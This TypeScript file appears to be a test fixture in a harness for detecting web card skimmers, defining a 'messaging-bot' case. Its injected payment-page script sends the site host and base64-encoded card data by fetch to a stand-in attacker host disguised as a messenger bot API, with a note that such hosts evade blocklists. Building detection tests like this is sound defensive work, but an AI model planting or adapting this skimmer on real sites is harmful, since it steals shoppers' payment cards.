import { holds, js, skimmer } from '../behaviour.ts';
import { at } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'messaging-bot',
  why: 'The bot interface of a messenger takes it as a chat message: a host that no blocklist holds (published 2020).',
  covers: ['sending: messaging API', 'sending: fetch'],
  base: 'direct',
  install: (site) =>
    site.inline(
      onPay(js`
    fetch('${site.origins.evil.replace('evil', 'api-messenger.evil')}/bot0000:loopback/sendMessage', { method: 'POST', mode: 'no-cors', keepalive: true, body: new URLSearchParams({ chat_id: '-100', parse_mode: 'HTML', text: '<b>' + location.host + '</b>\n' + btoa(card()) }) });`),
    ),
  proof: holds((arrived) =>
    at(arrived, 'evil').map(({ body }) =>
      Buffer.from(
        new URLSearchParams(body.toString()).get('text')?.split('\n')[1] ?? '',
        'base64',
      ).toString(),
    ),
  ),
});
